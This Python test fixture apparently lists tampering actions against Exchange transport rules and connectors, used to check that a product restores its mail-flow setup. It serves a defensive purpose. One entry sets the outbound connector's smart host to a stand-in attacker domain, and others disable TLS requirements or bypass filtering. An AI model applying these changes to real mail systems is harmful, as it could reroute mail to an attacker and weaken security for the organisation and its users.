"""What an administrator may do to what is ours, and the product heals."""

from local.demo.items import ITEMS

FROM, TO, LOOP_CHECK, REDIRECT = ITEMS[:4]
Act = tuple[str, dict[str, object]]

DAMAGES: tuple[Act, ...] = (
    ("Remove-TransportRule", {"Identity": REDIRECT}),
    ("Remove-TransportRule", {"Identity": LOOP_CHECK}),
    ("Disable-TransportRule", {"Identity": REDIRECT}),
    ("Disable-TransportRule", {"Identity": LOOP_CHECK}),
    ("Enable-TransportRule", {"Identity": LOOP_CHECK}),
    ("Set-TransportRule", {"Identity": LOOP_CHECK, "Priority": 0}),
    ("Set-TransportRule", {"Identity": REDIRECT, "Priority": 0}),
    ("Set-TransportRule", {"Identity": LOOP_CHECK, "StopRuleProcessing": False}),
    ("Set-TransportRule", {"Identity": REDIRECT, "FromScope": "InOrganization"}),
    ("Set-OutboundConnector", {"Identity": TO, "SmartHosts": ["evil.example"]}),
    ("Set-OutboundConnector", {"Identity": TO, "TestMode": True}),
    ("Set-OutboundConnector", {"Identity": TO, "TlsSettings": "EncryptionOnly"}),
    ("Set-InboundConnector", {"Identity": FROM, "Enabled": False}),
    ("Set-InboundConnector", {"Identity": FROM, "EFSkipIPs": ["203.0.113.0/24"]}),
    ("Set-InboundConnector", {"Identity": FROM, "RequireTls": False}),
    ("Remove-InboundConnector", {"Identity": FROM}),
    ("Set-ArcConfig", {"Identity": "Default", "ArcTrustedSealers": ["arc.contoso.example"]}),
    ("New-TransportRule", {"Name": "One more at the top", "PrependSubject": "[x] ", "Priority": 0}),
    ("New-TransportRule", {"Name": "One more at the end", "SetSCL": "5"}),
)
